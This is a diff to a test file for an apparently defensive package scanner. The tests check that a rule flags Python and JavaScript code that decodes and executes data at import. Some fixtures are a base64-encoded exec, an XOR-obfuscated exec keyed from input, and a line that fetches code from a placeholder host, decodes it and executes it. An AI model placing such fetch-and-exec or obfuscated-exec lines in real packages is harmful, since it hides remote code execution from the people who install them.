@@ -2,18 +2,41 @@
 
 import base64
 
+import pytest
+
 from pratique.core.finding import Confidence, Severity
 from tests.analysis.inspecting import npm, of_rule, package_json, wheel
 
 RULE = "decoded-then-executed"
 BLOB = base64.b64encode(b"print('marker')\n" * 20).decode()
+SHUT = base64.b64encode(bytes(sign ^ 0xA7 for sign in b"print('marker')\n" * 20)).decode()
 PYTHON = f"from base64 import b64decode as d\nexec(d('{BLOB}'))\n"
 JAVASCRIPT = f"eval(Buffer.from('{BLOB}', 'base64').toString())\n"
 
 
-def test_python_that_runs_a_decoded_constant_at_import_blocks() -> None:
+@pytest.mark.parametrize(
+    ("code", "confidence"),
+    [
+        (PYTHON, Confidence.MEDIUM),
+        (
+            f"from base64 import b64decode as d\nKEY = input()\nexec(bytes(x ^ KEY for x in d('{SHUT}')))\n",
+            Confidence.HIGH,
+        ),
+        (
+            "import base64, requests\nexec(base64.b64decode(requests.get('https://a.invalid').text))\n",
+            Confidence.HIGH,
+        ),
+    ],
+    ids=["read here too", "not to be read", "fetched"],
+)
+def test_python_that_runs_decoded_data_at_import(code: str, confidence: Confidence) -> None:
+    """What could be decoded here too is held, and blocked by what is in it; what nobody has seen is blocked."""
+    finding = of_rule(wheel({"sample/__init__.py": code}), RULE)[0]
+    assert (Severity.CRITICAL, confidence) == (finding.severity, finding.confidence)
+
+
+def test_the_place_of_what_runs_is_told() -> None:
     (finding,) = of_rule(wheel({"sample/__init__.py": PYTHON}), RULE)
-    assert (Severity.CRITICAL, Confidence.HIGH) == (finding.severity, finding.confidence)
     assert ("sample/__init__.py", 2) == (finding.locations[0].path, finding.locations[0].line)
 
 
